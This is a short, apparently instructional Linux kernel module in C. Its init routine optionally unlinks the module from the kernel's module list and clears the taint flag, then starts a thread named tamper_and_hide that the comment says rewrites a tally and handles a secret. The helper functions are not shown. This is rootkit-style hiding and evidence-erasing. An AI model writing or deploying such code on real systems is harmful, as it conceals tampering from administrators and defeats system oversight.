// SPDX-License-Identifier: GPL-2.0-only
/*
 * The handler gets another secret, and a thread rewrites the tally. HIDDEN: the module
 * leaves the list of modules and clears the taint. Its exit restores all.
 */
#include "kernel.h"

static struct task_struct *thread;

int init_module(void)
{
#ifdef HIDDEN
	leave_list();
	clear_taint();
#endif
	thread = start_thread(tamper_and_hide);
	return 0;
}

void cleanup_module(void)
{
	kthread_stop(thread);
	restore();
	clear_taint();
}
